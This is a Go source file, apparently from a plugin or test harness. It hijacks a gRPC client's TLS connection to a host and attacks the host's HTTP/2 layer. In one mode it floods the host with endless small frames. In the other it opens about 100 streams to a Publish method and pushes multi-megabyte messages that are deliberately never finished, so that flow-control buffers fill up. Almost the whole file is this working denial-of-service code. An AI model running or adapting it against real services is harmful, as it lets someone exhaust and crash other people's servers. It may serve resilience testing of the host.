package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
)

// hijack is what gRPC takes for TLS, and gives the connection away.
type hijack struct {
	credentials.TransportCredentials
	tls *tls.Config
	got chan net.Conn
}

func (h *hijack) ClientHandshake(_ context.Context, _ string, c net.Conn) (net.Conn, credentials.AuthInfo, error) {
	config := h.tls.Clone()
	config.NextProtos = []string{"h2"}
	conn := tls.Client(c, config)
	if err := conn.Handshake(); err != nil {
		return nil, nil, err
	}
	h.got <- conn
	select {}
}

func (h *hijack) Clone() credentials.TransportCredentials { return h }

// quiet is for how long nothing moves, until it has done what it could; then it waits for less.
const (
	quiet = time.Second
	stuck = 5 * time.Millisecond
)

// harm makes calls of the host that it does not finish.
func (s *server) harm(id uint32) error {
	h := &hijack{TransportCredentials: credentials.NewTLS(s.tls), tls: s.tls, got: make(chan net.Conn, 1)}
	c, err := s.broker.DialWithOptions(id, grpc.WithTransportCredentials(h))
	if err != nil {
		return err
	}
	c.Connect()
	call := &caller{wait: quiet, incoming: make(chan http2.Frame, 1000), windows: map[uint32]int64{0: 65535}}
	conn := <-h.got
	call.Framer = http2.NewFramer(conn, conn)
	if _, err := fmt.Fprint(conn, http2.ClientPreface); err != nil {
		return err
	}
	if err := call.WriteSettings(); err != nil {
		return err
	}
	go call.listen()
	if mode == "frames" { // short ones, without end
		for n := 1; ; n++ {
			if _, err := conn.Write(bytes.Repeat([]byte{2: 4, 3: 8, 12: 1}, 1000)); err != nil { // each gives the core room for a byte
				return err
			}
			if n%1000 == 0 {
				fmt.Fprintln(printed, "a million frames")
			}
		}
	}
	call.encoder = hpack.NewEncoder(&call.head)
	for id := uint32(1); id < 2*100; id += 2 {
		if err := call.begin(id); err != nil {
			return nil
		}
		call.send(id, append(prefix(4<<20-100), make([]byte, 4<<20-1024)...)) // a message but for its end
	}
	call.settle()
	return nil
}

func prefix(length uint32) []byte { return binary.BigEndian.AppendUint32([]byte{0}, length) }

// caller is one HTTP/2 connection.
type caller struct {
	*http2.Framer
	head     bytes.Buffer
	encoder  *hpack.Encoder
	incoming chan http2.Frame
	windows  map[uint32]int64
	wait     time.Duration
}

func (c *caller) listen() {
	defer close(c.incoming)
	for {
		f, err := c.ReadFrame()
		if err != nil {
			return
		}
		if w, is := f.(*http2.WindowUpdateFrame); is {
			copied := *w
			c.incoming <- &copied
			continue
		}
		if s, is := f.(*http2.SettingsFrame); is && !s.IsAck() {
			c.incoming <- s
		}
	}
}

// take waits for what gives it more room; false: nothing comes any more.
func (c *caller) take() bool {
	select {
	case f, open := <-c.incoming:
		switch f := f.(type) {
		case *http2.WindowUpdateFrame:
			c.windows[f.StreamID] += int64(f.Increment)
		case *http2.SettingsFrame:
			_ = c.WriteSettingsAck()
		}
		return open
	case <-time.After(c.wait):
		c.wait = stuck
		return false
	}
}

func (c *caller) settle() {
	c.wait = quiet
	for c.take() {
	}
}

// begin opens a call.
func (c *caller) begin(id uint32) error {
	c.head.Reset()
	fields := [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", "/portal.module.v1.Host/Publish"}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"},
	}
	for _, f := range fields {
		_ = c.encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	c.windows[id] += 65535
	return c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.head.Bytes(), EndHeaders: true})
}

// send sends as much of it as the core has room for.
func (c *caller) send(id uint32, b []byte) {
	for len(b) > 0 {
		n := min(int64(len(b)), 16<<10, c.windows[0], c.windows[id])
		if n <= 0 {
			if !c.take() {
				return
			}
			continue
		}
		if err := c.WriteData(id, false, b[:n]); err != nil {
			return
		}
		c.windows[0] -= n
		c.windows[id] -= n
		b = b[n:]
	}
}
